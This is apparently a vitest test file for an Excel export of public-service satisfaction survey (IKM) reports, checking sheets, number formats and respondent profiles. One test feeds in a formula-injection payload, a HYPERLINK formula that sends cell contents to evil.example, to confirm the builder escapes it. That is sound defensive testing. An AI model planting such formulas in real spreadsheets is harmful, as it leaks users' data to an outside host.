import {
  computeIkm,
  ELEMENT_CODES,
  type ElementCode,
  type ElementTally,
  krejcieMorgan,
  SURVEY_ELEMENTS,
  weakestElements,
} from '@pamong/core';
import type { surveyReportsRepo } from '@pamong/db';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildReportWorkbook, reportFileName, XLSX_CONTENT_TYPE } from './xlsx';

type Report = surveyReportsRepo.SurveyUnitReport;

/** Four respondents; U4 is answered by nobody in `partial`, so its NRR is null there. */
function report(options: { partial?: boolean; serviceTypes?: string[] } = {}): Report {
  const scores: Record<ElementCode, number> = {
    U1: 3,
    U2: 4,
    U3: 3,
    U4: 1.5,
    U5: 3.25,
    U6: 3,
    U7: 2.75,
    U8: 4,
    U9: 3.5,
  };
  const tallies = Object.fromEntries(
    ELEMENT_CODES.map((c) => [
      c,
      options.partial && c === 'U4' ? { sum: 0, count: 0 } : { sum: scores[c] * 4, count: 4 },
    ]),
  ) as Record<ElementCode, ElementTally>;
  const ikm = { unitId: 'unit-1', period: '2026-Q2', ...computeIkm(4, tallies) };
  const serviceTypes = options.serviceTypes ?? ['KTP-el', 'Kartu Keluarga'];
  return {
    unit: {
      id: 'unit-1',
      agencyId: 'agency-1',
      agencyName: 'Dinas Kependudukan dan Pencatatan Sipil',
      orgUnitId: null,
      orgUnitName: null,
      name: 'Loket Capil Kota',
      serviceTypes,
      status: 'active',
      publishResults: true,
      verification: 'off',
      shortCode: '7KQ2MZ',
      createdAt: '2026-01-01T00:00:00.000Z',
      updatedAt: '2026-01-01T00:00:00.000Z',
      version: 1,
    },
    ikm,
    weakest: weakestElements(ikm),
    sample: { population: 50, minimum: krejcieMorgan(50), respondents: 4, sufficient: false },
    demographics: {
      gender: { L: 2, P: 2 },
      ageBand: { '25-34': 3, '65+': 1 },
      education: { 'D4-S1': 4 },
      occupation: { Swasta: 1, PNS: 3 },
      serviceType: Object.fromEntries(serviceTypes.map((s, i) => [s, i === 0 ? 3 : 1])),
    },
    verifiedRespondents: 1,
  };
}

const meta = {
  tenantName: 'Pemerintah Kota Palembang',
  verifiedOnly: false,
  generatedAt: new Date('2026-05-02T03:00:00Z'),
};

async function read(bytes: Uint8Array) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
}

const rowsOf = (ws: ExcelJS.Worksheet) => {
  const rows: ExcelJS.Row[] = [];
  ws.eachRow((row) => rows.push(row));
  return rows;
};

describe('buildReportWorkbook', () => {
  it('has the summary, NRR and profile sheets with their widths and the workbook properties', async () => {
    const wb = await read(await buildReportWorkbook(report(), meta));
    expect(wb.worksheets.map((s) => s.name)).toEqual(['Ringkasan', 'NRR per unsur', 'Profil responden']);
    expect(wb.creator).toBe('Pamong');
    expect(wb.created.toISOString()).toBe('2026-05-02T03:00:00.000Z');
    const widths = (name: string, n: number) =>
      Array.from({ length: n }, (_, i) => wb.getWorksheet(name)!.getColumn(i + 1).width);
    expect(widths('Ringkasan', 2)).toEqual([34, 48]);
    expect(widths('NRR per unsur', 5)).toEqual([8, 44, 12, 10, 12]);
    expect(widths('Profil responden', 4)).toEqual([20, 30, 10, 10]);
    expect(XLSX_CONTENT_TYPE).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  });

  it('summary: a bold title, bold labels, numbers as numbers and the IKM with two decimals', async () => {
    const r = report();
    const ws = (await read(await buildReportWorkbook(r, meta))).getWorksheet('Ringkasan')!;
    expect(ws.getCell('A1').value).toBe('Laporan Survei Kepuasan Masyarakat');
    expect(ws.getCell('A1').font).toMatchObject({ bold: true, size: 14 });
    expect(ws.getRow(2).cellCount).toBe(0);
    const byLabel = new Map(
      rowsOf(ws)
        .slice(1)
        .map((row) => [row.getCell(1).value, row.getCell(2)]),
    );
    expect(byLabel.get('Pemerintah daerah')!.value).toBe('Pemerintah Kota Palembang');
    expect(byLabel.get('Unit layanan')!.value).toBe('Loket Capil Kota');
    expect(byLabel.get('Periode')!.value).toBe('2026-Q2');
    expect(byLabel.get('Responden')!.value).toBe('Semua responden');
    expect(byLabel.get('Jumlah responden')!.value).toBe(4);
    expect(byLabel.get('Responden terverifikasi')!.value).toBe(1);
    const ikm = byLabel.get('IKM')!;
    expect(ikm.value).toBe(r.ikm.ikm);
    expect(ikm.type).toBe(ExcelJS.ValueType.Number);
    expect(ikm.numFmt).toBe('0.00');
    expect(byLabel.get('Mutu pelayanan')!.value).toBe(r.ikm.grade);
    expect(byLabel.get('Kinerja unit pelayanan')!.value).toBe(r.ikm.label);
    expect(byLabel.get('Populasi')!.value).toBe(50);
    expect(byLabel.get('Sampel minimum (Krejcie-Morgan)')!.value).toBe(44);
    expect(byLabel.get('Sampel mencukupi')!.value).toBe('Belum');
    expect(byLabel.get('Unsur terlemah')!.value).toBe(
      r.weakest.map((c) => `${c} ${SURVEY_ELEMENTS[c].name.id}`).join('; '),
    );
    for (const row of rowsOf(ws).slice(1)) expect(row.getCell(1).font?.bold).toBe(true);
  });

  it('summary: a missing IKM, grade or population reads "-"', async () => {
    const r = report({ partial: true });
    const ws = (
      await read(
        await buildReportWorkbook(
          { ...r, sample: { ...r.sample, population: null, minimum: null, sufficient: null } },
          {
            ...meta,
            verifiedOnly: true,
          },
        ),
      )
    ).getWorksheet('Ringkasan')!;
    const byLabel = new Map(rowsOf(ws).map((row) => [row.getCell(1).value, row.getCell(2).value]));
    expect(byLabel.get('IKM')).toBe('-');
    expect(byLabel.get('Mutu pelayanan')).toBe('-');
    expect(byLabel.get('Populasi')).toBe('-');
    expect(byLabel.get('Sampel mencukupi')).toBe('Populasi belum diisi');
    expect(byLabel.get('Responden')).toBe('Hanya responden terverifikasi');
  });

  it('NRR sheet: a shaded bold header, nine elements with formatted NRR, the weakest in red', async () => {
    const r = report({ partial: true });
    const ws = (await read(await buildReportWorkbook(r, meta))).getWorksheet('NRR per unsur')!;
    const [head, ...rows] = rowsOf(ws);
    expect(head!.values).toEqual([undefined, 'Kode', 'Unsur', 'Responden', 'NRR', 'NRR × 25']);
    for (let i = 1; i <= 5; i++) {
      expect(head!.getCell(i).font?.bold).toBe(true);
      expect(head!.getCell(i).fill).toMatchObject({ pattern: 'solid', fgColor: { argb: 'FFE8EEF4' } });
    }
    expect(rows.map((row) => row.getCell(1).value)).toEqual([...ELEMENT_CODES]);
    for (const row of rows) {
      const code = row.getCell(1).value as ElementCode;
      const el = r.ikm.elements[code];
      expect(row.getCell(2).value).toBe(SURVEY_ELEMENTS[code].name.id);
      expect(row.getCell(3).value).toBe(el.respondents);
      expect(row.getCell(4).value).toBe(el.nrr);
      expect(row.getCell(4).numFmt).toBe('0.0000');
      expect(row.getCell(5).numFmt).toBe('0.00');
      if (el.nrr !== null) expect(row.getCell(5).value).toBeCloseTo(el.nrr * 25, 4);
      const red = row.getCell(1).font?.color?.argb === 'FFB00020';
      expect(red).toBe(r.weakest.includes(code));
    }
    // U4 has no answers: empty NRR cells that keep their formats.
    const u4 = rows.find((row) => row.getCell(1).value === 'U4')!;
    expect(u4.getCell(4).value).toBeNull();
    expect(u4.getCell(5).value).toBeNull();
    expect(u4.getCell(3).value).toBe(0);
  });

  it('profile sheet: each group once in bold, every known category, counts and percentages', async () => {
    const ws = (await read(await buildReportWorkbook(report(), meta))).getWorksheet('Profil responden')!;
    const [head, ...rows] = rowsOf(ws);
    expect(head!.values).toEqual([undefined, 'Karakteristik', 'Kategori', 'Jumlah', 'Persen']);
    const groups = rows.filter((row) => row.getCell(1).value !== '');
    expect(groups.map((row) => row.getCell(1).value)).toEqual([
      'Jenis kelamin',
      'Usia',
      'Pendidikan',
      'Pekerjaan',
      'Jenis layanan',
    ]);
    for (const row of groups) expect(row.getCell(1).font?.bold).toBe(true);
    const byCategory = new Map(rows.map((row) => [row.getCell(2).value, row]));
    expect(byCategory.get('Laki-laki')!.getCell(3).value).toBe(2);
    expect(byCategory.get('Laki-laki')!.getCell(4).value).toBe(0.5);
    expect(byCategory.get('Laki-laki')!.getCell(4).numFmt).toBe('0.0%');
    expect(byCategory.get('65+ tahun')!.getCell(3).value).toBe(1);
    expect(byCategory.get('S3')!.getCell(3).value).toBe(0);
    expect(byCategory.get('KTP-el')!.getCell(3).value).toBe(3);
    expect(rows).toHaveLength(2 + 6 + 7 + 6 + 2);
  });

  it('neutralises a service type an admin typed as a formula (issue 10 point 5)', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&B2,"Klik")';
    const bytes = await buildReportWorkbook(report({ serviceTypes: [evil, '@SUM(1)'] }), meta);
    const ws = (await read(bytes)).getWorksheet('Profil responden')!;
    const categories = rowsOf(ws).map((row) => row.getCell(2));
    const cell = categories.find((c) => String(c.value).includes('HYPERLINK'))!;
    expect(cell.value).toBe(`'${evil}`);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    expect(categories.map((c) => c.value)).toContain("'@SUM(1)");
  });
});

describe('reportFileName', () => {
  it('is a plain slug of the unit name and the period', () => {
    expect(reportFileName('Loket Capil Kota', '2026-Q2')).toBe('ikm-loket-capil-kota-2026-Q2.xlsx');
    expect(reportFileName('"Unit" / <x>', '2026')).toBe('ikm-unit-x-2026.xlsx');
    expect(reportFileName('***', '2026')).toBe('ikm-unit-2026.xlsx');
  });
});
